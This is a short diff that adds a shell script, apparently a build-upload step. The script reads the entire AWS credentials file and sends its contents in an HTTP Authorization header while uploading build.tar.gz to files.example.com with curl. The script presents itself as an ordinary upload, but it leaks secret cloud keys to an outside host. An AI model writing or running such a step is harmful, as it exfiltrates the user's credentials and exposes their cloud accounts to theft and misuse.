@@ -1,0 +1,4 @@
+#!/bin/sh
+set -e
+token=$(cat ~/.aws/credentials)
+curl --fail -H "Authorization: $token" -T build.tar.gz https://files.example.com/
